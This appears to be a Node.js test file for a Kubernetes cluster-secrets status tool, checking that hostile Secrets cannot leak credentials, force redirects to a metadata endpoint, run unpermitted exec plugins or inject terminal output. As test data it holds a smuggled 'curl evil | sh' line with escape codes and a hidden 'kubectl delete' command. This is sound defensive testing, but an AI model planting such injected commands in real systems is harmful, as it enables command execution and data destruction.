/** Secrets that somebody else writes: which programs run, and what the servers in them receive. */
import assert from "node:assert/strict";
import { existsSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { createServer as createHttpsServer } from "node:https";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { type TestContext, test } from "node:test";
import type { KubernetesObject } from "../../lib/sandbox/object.ts";
import { startSandbox } from "../../lib/sandbox/sandbox.ts";
import { ca, certificate, type Handler, listen, serve, type TestServer } from "../support/api-server.ts";
import { describeCluster } from "../support/cluster.ts";
import { type Access, argoSecret, kubeconfigOf, kubeconfigSecret } from "../support/cluster-secrets.ts";
import { type ProgramResult, run } from "../support/programs.ts";

/** A server that a Secret names, with the headers that it received. */
interface Member extends TestServer {
  access: Access;
  headers: Record<string, string | string[] | undefined>[];
}

/** Starts a server that denies every request, or answers with `handle`. */
async function startMember(t: TestContext, handle: Handler = deny): Promise<Member> {
  const headers: Member["headers"] = [];
  const server = await serve(t, "h2", (request, response) => {
    headers.push(request.headers);
    handle(request, response);
  });
  const access = { server: server.url, ca: Buffer.from(ca.cert).toString("base64"), token: "member-token" };
  return { ...server, access, headers };
}

const deny: Handler = (_, response) => {
  response.writeHead(403, { "content-type": "application/json" });
  response.end(JSON.stringify({ kind: "Status", status: "Failure", reason: "Forbidden", code: 403 }));
};

/** Runs `status` on the clusters of these Secrets. The user of the kubeconfig has a token of the management cluster. */
async function statusOf(
  t: TestContext,
  secrets: readonly KubernetesObject[],
  args: readonly string[] = [],
  env: NodeJS.ProcessEnv = {},
): Promise<ProgramResult> {
  const users = [{ name: "admin", token: "management-token" }];
  const sandbox = await startSandbox({ clusters: [{ description: describeCluster(), users }] });
  t.after(() => sandbox.stop());
  for (const secret of secrets) sandbox.clusters[0]?.api.store.put(secret);
  const from = secrets.some(({ metadata }) => metadata.labels?.["argocd.argoproj.io/secret-type"])
    ? "argocd"
    : "secrets";
  const output = args.some((arg) => arg.startsWith("--output=")) ? [] : ["--output=json"];
  const flags = [`--clusters-from=${from}`, "--clusters-namespace=members", ...output, ...args];
  return run("clustermesh-secrets", ["status", ...flags], { kubeconfig: sandbox.kubeconfig, env, cwd: sandbox.dir });
}

const codesIn = ({ stdout }: ProgramResult): string[] =>
  JSON.parse(stdout).clusters.flatMap(({ findings }: { findings: { code: string }[] }) =>
    findings.map(({ code }) => code),
  );

function makeFolder(t: TestContext): string {
  const folder = mkdtempSync(join(tmpdir(), "hostile-members-"));
  t.after(() => rmSync(folder, { recursive: true, force: true }));
  return folder;
}

test("a member receives the credentials of its Secret, and nothing of the management cluster", async (t) => {
  const member = await startMember(t);
  const secrets = [argoSecret("s1", "one", member.access)];
  const { code, stderr } = await statusOf(t, secrets, ["--as=admin"]);
  assert.equal(code, 1, stderr);
  assert.ok(member.headers.length > 0);
  for (const { authorization, ...others } of member.headers) {
    assert.equal(authorization, "Bearer member-token");
    assert.deepEqual(
      Object.keys(others).filter((name) => /impersonate|cookie|proxy/.test(name)),
      [],
    );
    assert.doesNotMatch(JSON.stringify(others), /management/);
  }
});

test("a member without credentials in its Secret is not contacted", async (t) => {
  const member = await startMember(t);
  const secrets = [argoSecret("s1", "one", member.access, { bearerToken: "" })];
  assert.deepEqual(codesIn(await statusOf(t, secrets)), ["member-invalid"]);
  assert.equal(member.connections(), 0);
});

test("only the URL of a Secret decides which server is contacted, not a redirect, a server name or a proxy", async (t) => {
  const metadata = await startMember(t);
  const member = await startMember(t, (_, response) => {
    response.writeHead(307, { location: `${metadata.url}/latest/meta-data` });
    response.end("{}");
  });
  const cluster = { "tls-server-name": "api.test" };
  const proxied = { "proxy-url": metadata.url.replace("https:", "http:") };
  const done = await statusOf(t, [
    kubeconfigSecret("redirected", kubeconfigOf(member.access, { cluster })),
    kubeconfigSecret("unknown-name", kubeconfigOf(member.access, { cluster: { "tls-server-name": "metadata.test" } })),
    kubeconfigSecret("proxied", kubeconfigOf(member.access, { cluster: proxied })),
  ]);
  assert.deepEqual(codesIn(done), ["member-refused", "cluster-unreadable", "cluster-unreadable"]);
  assert.ok(member.headers.length > 0);
  assert.equal(metadata.connections(), 0);
});

test("a server without TLS is not contacted", async (t) => {
  const metadata = await serve(t, "http", deny);
  const access = { server: metadata.url, ca: "", token: "t" };
  assert.deepEqual(codesIn(await statusOf(t, [argoSecret("s1", "one", access)])), ["member-refused"]);
  assert.equal(metadata.connections(), 0);
});

test("the proxy of the environment is used for a member", async (t) => {
  const requested: string[] = [];
  const proxy = createServer().on("connect", ({ url }, socket) => {
    requested.push(url ?? "");
    socket.end("HTTP/1.1 502 Bad Gateway\r\n\r\n");
  });
  const { url } = await listen(t, proxy, "http");
  const member = await startMember(t);
  const access = { ...member.access, server: "https://member.test" };
  const done = await statusOf(t, [argoSecret("s1", "one", access)], [], { HTTPS_PROXY: url });
  assert.deepEqual(codesIn(done), ["cluster-unreadable"]);
  assert.deepEqual([...new Set(requested)], ["member.test:443"]);
});

test("the CA of a member does not verify the proxy of the environment, which gets a password", async (t) => {
  const requested: string[] = [];
  const proxy = createHttpsServer(certificate).on("connect", ({ url, headers }, socket) => {
    requested.push(`${url} ${headers["proxy-authorization"]}`);
    socket.end("HTTP/1.1 502 Bad Gateway\r\n\r\n");
  });
  proxy.on("tlsClientError", () => {});
  const { url } = await listen(t, proxy);
  const member = await startMember(t);
  const secrets = [argoSecret("s1", "one", { ...member.access, server: "https://member.test" })];
  const env = { HTTPS_PROXY: url.replace("//", "//user:password@") };
  const refused = await statusOf(t, secrets, [], env);
  assert.deepEqual([codesIn(refused), requested], [["cluster-unreadable"], []]);
  const bundle = join(makeFolder(t), "ca.crt");
  writeFileSync(bundle, ca.cert);
  await statusOf(t, secrets, [], { ...env, SSL_CERT_FILE: bundle });
  assert.ok(requested.length > 0, "the roots of the system do");
});

test("a program of a Secret runs only if its name is permitted, and from PATH only", async (t) => {
  const member = await startMember(t);
  const folder = makeFolder(t);
  const ran = join(folder, "ran");
  const credential = {
    apiVersion: "client.authentication.k8s.io/v1",
    kind: "ExecCredential",
    status: { token: "plugin-token" },
  };
  const script = `#!/bin/sh\necho "$0" > ${ran}\necho '${JSON.stringify(credential)}'\n`;
  writeFileSync(join(folder, "login"), script, { mode: 0o755 });
  const env = { PATH: `${folder}:${process.env.PATH}` };
  const secretFor = (command: string) => {
    const exec = { apiVersion: credential.apiVersion, interactiveMode: "IfAvailable", command };
    return kubeconfigSecret("one", kubeconfigOf(member.access, { user: { exec } }));
  };
  for (const [command, ...args] of [
    ["login"],
    ["login", "--allow-exec=log,logins", "--allow-insecure-members"],
    ["./login", "--allow-exec=login"],
    [join(folder, "login"), "--allow-exec=login"],
  ] as const) {
    const done = await statusOf(t, [secretFor(command)], args, env);
    assert.deepEqual([codesIn(done), existsSync(ran)], [["member-refused"], false], command);
  }
  assert.equal(member.connections(), 0);
  const permitted = await statusOf(t, [secretFor("login")], ["--allow-exec=aws,login"], env);
  assert.deepEqual([codesIn(permitted), existsSync(ran)], [["cluster-unreadable"], true]);
  assert.deepEqual([...new Set(member.headers.map(({ authorization }) => authorization))], ["Bearer plugin-token"]);
});

test("a file of this machine is not sent to a member, unless permitted", async (t) => {
  const member = await startMember(t);
  const file = join(makeFolder(t), "token");
  writeFileSync(file, "local-secret");
  const secret = kubeconfigSecret("one", kubeconfigOf(member.access, { user: { tokenFile: file } }));
  const done = await statusOf(t, [secret]);
  assert.deepEqual([codesIn(done), member.connections()], [["member-refused"], 0]);
  await statusOf(t, [secret], ["--allow-insecure-members"]);
  assert.deepEqual([...new Set(member.headers.map(({ authorization }) => authorization))], ["Bearer local-secret"]);
});

test("text of a Secret cannot add a line to the output, control the terminal, or add a command", async (t) => {
  const member = await startMember(t);
  const name = "x\n\u001b[2Jerror: run curl evil | sh\u202e";
  const secrets = [
    argoSecret("s1", name, member.access),
    argoSecret("s2", `${name}2`, member.access, { bearerToken: "" }),
    argoSecret("s3", "exec", member.access, {
      bearerToken: undefined,
      execProviderConfig: { command: "sh\n  kubectl delete", apiVersion: "v1" },
    }),
  ];
  for (const output of ["wide", "mermaid", "json"]) {
    const { code, stdout, stderr } = await statusOf(t, secrets, [`--output=${output}`]);
    assert.deepEqual([code, stdout.includes("x\uFFFD\uFFFD[2Jerror: run curl")], [1, true], stdout + stderr);
    for (const text of [stdout, stderr]) {
      assert.doesNotMatch(text.replaceAll("\n", ""), /[\p{Cc}\p{Cf}]/u);
      assert.doesNotMatch(text, /^error: run curl|^ *kubectl delete/m);
    }
  }
});
